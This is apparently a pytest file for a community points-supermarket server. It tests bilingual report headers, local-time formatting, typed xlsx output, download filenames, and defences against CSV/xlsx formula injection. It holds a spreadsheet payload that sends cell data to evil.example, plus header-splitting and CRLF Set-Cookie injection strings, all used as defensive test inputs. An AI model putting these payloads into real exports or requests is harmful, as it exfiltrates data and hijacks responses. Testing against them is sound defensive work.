"""Reports for people: Chinese headers (English when asked) from the one label table,
local times and words instead of milliseconds and ``False``, a real xlsx with typed cells,
CSV and xlsx that carry no formula, and download names that no parameter can break."""

import csv
import io
import sqlite3
from datetime import datetime
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from server.cli import main
from server.reports.render import render, render_bytes
from server.services.reports import report
from server.services.staff import SYSTEM
from tests.conftest import T0
from tests.server.kiosk_double import KioskDouble
from tests.server.staff.test_reports import MONTH, activity, sql  # noqa: F401  (the shared fixture)
from sync.calendar import local_dt, month_bounds

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def test_every_report_has_chinese_headers_and_english_on_request(ctx, activity):
    for kind in ("board", "settlement", "issued", "trend", "coverage", "kiosks"):
        zh, en = report(ctx, SYSTEM, kind, MONTH), report(ctx, SYSTEM, kind, MONTH, lang="en")
        assert set(zh["labels"]) == set(zh["columns"]) and zh["columns"] == en["columns"]
        assert all(any("\u4e00" <= ch <= "\u9fff" for ch in h) for h in zh["labels"].values()), (kind, zh["labels"])
        assert all(h.isascii() for h in en["labels"].values()), (kind, en["labels"])
        text = render(zh, "csv")
        assert text.splitlines()[0].lstrip("\ufeff").split(",") == [zh["labels"][c] for c in zh["columns"]]
        assert zh["title"] in render(zh, "html") and zh["labels"][zh["columns"][0]] in render(zh, "table")


def test_kiosk_health_reads_as_words_and_local_times(ctx, activity, clock):
    rep = report(ctx, SYSTEM, "kiosks", MONTH)
    table = render(rep, "table")
    assert "False" not in table and "True" not in table and "否" in table and "正常" in table
    raw = rep["rows"][0]["last_push_at"]
    assert isinstance(raw, int)  # JSON keeps the machine value
    dt = local_dt(raw)
    assert f"{dt.year}年{dt.month}月{dt.day}日 {dt:%H:%M}" in table and str(raw) not in table
    rows = list(csv.reader(io.StringIO(render(rep, "csv").lstrip("\ufeff"))))
    col = rows[0].index("最后上传")
    assert rows[1][col].startswith(f"{dt.year}年") and rows[1][rows[0].index("已吊销")] == "否"
    en = render(report(ctx, SYSTEM, "kiosks", MONTH, lang="en"), "table")
    assert "Last push" in en and f"{dt:%Y-%m-%d %H:%M}" in en and "no" in en.split()


def test_xlsx_opens_with_chinese_headers_and_typed_cells(ctx, activity):
    rep = report(ctx, SYSTEM, "settlement", MONTH)
    wb = workbook(render_bytes(rep, "xlsx"))
    ws = wb.worksheets[0]
    head = [c.value for c in ws[1]]
    assert head[:3] == ["超市编号", "超市", "社区编号"] and "合计" in head
    rows = {r[0]: dict(zip(head, r)) for r in ws.iter_rows(min_row=2, values_only=True)}
    start, end = month_bounds(MONTH)
    for shop in ("S01", "S02"):  # the workbook ties out to the ledger too
        posted = sql(ctx, "SELECT coalesce(sum(amount), 0) FROM postings WHERE account = ? AND at >= ? AND at < ?", f"shop:{shop}", start, end)
        assert rows[shop]["合计"] == posted and isinstance(rows[shop]["合计"], int)
    assert rows["S01"]["撤销积分"] == -30 and isinstance(rows["S01"]["撤销积分"], int)  # a negative number stays a number
    assert "兑换商品明细" in wb.sheetnames and "合计" in wb.sheetnames
    kiosks = workbook(render_bytes(report(ctx, SYSTEM, "kiosks", MONTH), "xlsx")).worksheets[0]
    head = [c.value for c in kiosks[1]]
    first = dict(zip(head, next(kiosks.iter_rows(min_row=2, values_only=True))))
    assert isinstance(first["最后上传"], datetime) and first["已吊销"] == "否" and first["批次链"] == "正常"


def test_trend_is_a_month_series_for_charts(ctx, activity):
    rep = report(ctx, SYSTEM, "trend", MONTH)
    months = rep["series"]["months"]
    assert len(months) == 12 and months[-1] == MONTH and months == sorted(months)
    issued = report(ctx, SYSTEM, "issued", MONTH)
    for flow in ("earned", "deducted", "spent", "corrected"):
        assert len(rep["series"][flow]) == 12 and rep["series"][flow][-1] == issued["totals"][flow]
    assert {r["month"] for r in rep["rows"]} == {MONTH}  # the demo data has nothing earlier
    assert rep["labels"]["month"] == "月份"


@pytest.fixture
def evil_label(settings, enrolled):
    """A kiosk whose stored label is a spreadsheet formula (as one enrolled before labels were checked)."""
    k = enrolled(7, "S01")
    conn = sqlite3.connect(settings.db_path)  # the attack's own SQL: a label no enrolment accepts now
    conn.execute("UPDATE kiosks SET label = ? WHERE id = ?", [ATTACK, k.id])
    conn.commit()
    conn.close()
    return k


def test_a_formula_in_a_kiosk_label_reaches_csv_and_xlsx_as_text(ctx, evil_label):
    rep = report(ctx, SYSTEM, "kiosks", MONTH)
    rows = list(csv.reader(io.StringIO(render(rep, "csv").lstrip("\ufeff"))))
    labels = [r[rows[0].index("终端名称")] for r in rows[1:]]
    assert "'" + ATTACK in labels and ATTACK not in labels
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows[1:] for v in r if not v.lstrip("-").isdigit())
    ws = workbook(render_bytes(rep, "xlsx")).worksheets[0]
    head = [c.value for c in ws[1]]
    cells = [r[head.index("终端名称")] for r in ws.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for r in ws.iter_rows(min_row=2) for c in r)  # no formula cell anywhere
    assert "'" + ATTACK in [c.value for c in cells]


def test_enrolment_refuses_a_label_that_is_no_label(client, clock):
    from server.services.enroll import enroll_code

    ctx = client.app.state.ctx
    for label in (ATTACK, "+1 kiosk", "@cmd", "\tk", "机\u202e器"):
        k = KioskDouble(client, 9, clock, label=label)
        resp = k.enroll(enroll_code(ctx, SYSTEM, "S01")["code"])
        assert resp.status_code == 400 and "label" in resp.text, (label, resp.text)
    ok = KioskDouble(client, 9, clock, label="龙居社区积分超市 1号机")
    assert ok.enroll(enroll_code(ctx, SYSTEM, "S01")["code"]).status_code == 200


def test_download_names_follow_rfc_6266(client, login, activity):
    h = login("auditor")
    resp = client.get(f"/api/reports/settlement?month={MONTH}&community=SQ01&format=xlsx", headers=h)
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("application/vnd.openxmlformats")
    cd = resp.headers["content-disposition"]
    assert cd.startswith('attachment; filename="settlement-') and "filename*=UTF-8''" in cd
    assert unquote(cd.split("filename*=UTF-8''")[1]) == f"超市结算-{MONTH}-SQ01.xlsx"
    assert workbook(resp.content).worksheets[0]["A1"].value == "超市编号"
    for community in ('x"; filename="evil.html', "龙居", "SQ01\r\nSet-Cookie: a=b"):
        bad = client.get("/api/reports/board", params={"month": MONTH, "community": community, "format": "csv"}, headers=h)
        assert bad.status_code == 422 and "community" in bad.text, (community, bad.status_code)
    en = client.get(f"/api/reports/board?month={MONTH}&format=csv&lang=en", headers=h)
    assert en.status_code == 200 and en.content.decode("utf-8-sig").startswith("Community,")
    assert client.get(f"/api/reports/board?month={MONTH}&lang=fr", headers=h).status_code == 422


def test_cli_report_table_and_xlsx(settings, activity, capsys, tmp_path):
    data = ["--data", str(settings.data_dir)]
    assert main(["report", "kiosks", "--month", MONTH, *data]) == 0
    out = capsys.readouterr().out
    assert out.startswith("终端运行状况") and "最后上传" in out and "False" not in out
    f = tmp_path / "board.xlsx"
    assert main(["report", "board", "--month", MONTH, "--format", "xlsx", "--output", str(f), *data]) == 0
    assert [c.value for c in workbook(f.read_bytes()).worksheets[0][1]] == ["社区编号", "社区", "名次", "姓名", "积分"]
    assert main(["report", "board", "--month", MONTH, "--format", "xlsx", *data]) == 2  # a workbook needs --output
    assert "--output" in capsys.readouterr().err
